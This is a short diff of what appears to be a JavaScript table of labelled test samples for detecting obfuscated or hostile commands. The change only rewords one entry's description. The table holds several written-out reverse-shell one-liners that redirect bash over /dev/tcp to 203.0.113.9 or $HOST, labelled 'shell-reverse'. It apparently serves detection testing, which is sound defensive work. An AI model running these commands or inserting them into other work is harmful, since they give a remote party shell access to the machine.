@@ -87,7 +87,7 @@ const obfuscations = [
   ],
   ["character codes", `x = "${"\\x41".repeat(50)}"`, "text-encoded"],
   ["a shell for somebody else", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "shell-reverse"],
-  ["a login shell for somebody else", "/bin/bash -l > /dev/tcp/203.0.113.9/4444 0<&1 2>&1", "shell-reverse"],
+  ["a login shell for another machine", "/bin/bash -l > /dev/tcp/203.0.113.9/4444 0<&1 2>&1", "shell-reverse"],
   ["a shell on a descriptor", "exec 196<>/dev/tcp/203.0.113.9/44; sh <&196 >&196 2>&196", "shell-reverse"],
   ["a shell on a descriptor, later", "exec 5<>/dev/tcp/$HOST/4444\nsleep 1\nbash <&5 >&5", "shell-reverse"],
   [
